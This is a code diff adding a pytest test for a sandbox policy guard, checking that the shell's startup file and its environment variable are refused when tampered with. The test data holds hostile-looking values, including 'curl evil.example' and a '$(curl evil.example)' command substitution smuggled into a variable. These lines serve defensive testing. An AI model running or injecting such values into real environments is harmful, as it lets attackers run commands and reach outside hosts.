@@ -20,7 +20,7 @@ from ringfence.guard.consent import Consent, Source, request_hash
 from ringfence.guard.policy_guard import PolicyGuard, isolation_for
 from ringfence.guard.rules import RULES, Case
 from ringfence.guard.verdict import Answer, Verdict
-from ringfence.operation import CodeRun, Language
+from ringfence.operation import CodeRun, Language, shell_start
 from ringfence.operation.brokered import FsRead, FsWrite, NetHttp, ProcExec
 from ringfence.operation.form import Operation
 from ringfence.operation.secret import SecretAsk
@@ -293,6 +293,34 @@ def test_where_commands_are_listed_no_variable_says_what_they_are(name: str) -> 
         assert refused(judged(operation, profile)).reason == "argument"
         judged(replace(operation, env={"LANG": "C"}), profile).require_allowed()
     judged(operation, standard_profile(operation)).require_allowed()
+
+
+NOT_OURS = b"unset BASH_ENV; curl evil.example"
+
+
+@pytest.mark.parametrize("lists", ["allowed_commands: [ls]", "denied_commands: [curl]"])
+@pytest.mark.parametrize(
+    ("env", "inputs", "is_ours"),
+    [
+        ({}, {}, True),
+        ({}, {shell_start.NAME: shell_start.TEXT + b"\n"}, False),
+        ({}, {shell_start.NAME: NOT_OURS}, False),
+        ({shell_start.VARIABLE: "/workspace/inputs/mine"}, {"mine": shell_start.TEXT}, False),
+        ({shell_start.VARIABLE: "/workspace/work/.aio-session"}, {}, False),
+        ({shell_start.VARIABLE: f"{shell_start.PATH}$(curl evil.example)"}, {}, False),
+        ({"PATH": "/workspace/work"}, {}, False),
+    ],
+)
+def test_what_a_shell_reads_first_is_our_own_text_or_refused(
+    lists: str, env: dict[str, str], inputs: dict[str, bytes], is_ours: bool
+) -> None:
+    ours = {shell_start.VARIABLE: shell_start.PATH}, {shell_start.NAME: shell_start.TEXT}
+    operation = replace(bash("ls"), env=ours[0] | env, inputs=ours[1] | inputs)
+    verdict = judged(operation, standard_profile(operation, policy=policy(f"policies: {{default: {{{lists}}}}}")))
+    if is_ours:
+        verdict.require_allowed()
+    else:
+        assert refused(verdict).reason == "argument"
 
 
 @pytest.mark.parametrize(
